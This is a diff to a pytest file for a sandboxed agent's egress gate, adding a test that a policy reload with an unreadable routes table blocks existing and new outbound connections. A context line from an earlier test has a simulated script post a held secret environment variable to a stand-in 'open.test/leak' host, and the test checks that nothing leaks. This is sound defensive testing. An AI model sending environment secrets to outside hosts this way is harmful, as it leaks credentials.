@@ -15,6 +15,7 @@ from opsexec.audit import verify
 from tests.parts.bottle_manifests import HomeRoot
 from tests.parts.bottle_running import (
     HELD,
+    SCRIPT_HEAD,
     TOKEN,
     Bottles,
     gone,
@@ -168,6 +169,53 @@ found['leak'] = get('https://open.test/leak', data=big + os.environ['HELD'].enco
     assert len(bottles.upstream.requests[0].body) == 8 << 20
     assert ended.answers["leak"][0] == 0
     assert not [each for each in bottles.upstream.requests if HELD.encode() in each.body]
+
+
+RELOADED = """
+import http.client, time
+def kept():
+    made = http.client.HTTPSConnection('127.0.0.1', 8877, timeout=10)
+    made.set_tunnel('api.test', 443)
+    return made
+def ask(made):
+    try:
+        made.request('GET', '/v1/x')
+        answer = made.getresponse()
+        return [answer.status, answer.read().decode()]
+    except OSError as error:
+        return [0, type(error).__name__]
+    except http.client.HTTPException as error:
+        return [0, type(error).__name__]
+made = kept()
+made.auto_open = 1
+found['before'] = ask(made)[0]
+made.auto_open = 0
+open('ready', 'w').close()
+while not os.path.exists('go'): time.sleep(0.02)
+found['kept'] = ask(made)
+found['new'] = ask(kept())
+"""
+
+
+@pytest.mark.parametrize("table", ["[]", "not json"])
+def test_a_new_policy_ends_what_the_old_one_let_in(bottles: Bottles, table: str) -> None:
+    """LC6: a table that can't be read is no policy, and then nothing leaves."""
+    script = SCRIPT_HEAD + RELOADED + "\nprint(json.dumps(found))"
+    launcher = bottles.begin("worker", ["/usr/bin/python3", "-c", script])
+    (state,) = (bottles.root.path / "state").iterdir()
+    eventually_now((state / "home" / "ready").exists, within_s=20, what="the agent has made its first request")
+    (state / "bundle" / "routes.json").write_text(table)
+    ours = set(processes_with(f"BOTTLE_IDENTITY={state.name}".encode()))
+    (gate,) = ours & set(processes_with(b"bottle.sidecars.egress.serve\x00"))
+    os.kill(gate, signal.SIGHUP)
+    eventually_now(lambda: '"reload"' in (state / "bundle.log").read_text(), within_s=20, what="the gate has reloaded")
+    (state / "home" / "go").touch()
+    stdout, stderr = launcher.communicate(timeout=40)
+    found = json.loads(stdout)
+    assert found["before"] == 200, stderr
+    assert found["kept"][0] == 0
+    assert found["new"] == [0, "OSError"]
+    assert len(bottles.upstream.requests) == 1
 
 
 def test_an_upstream_that_can_t_prove_its_name_gets_no_token(bottles: Bottles) -> None:
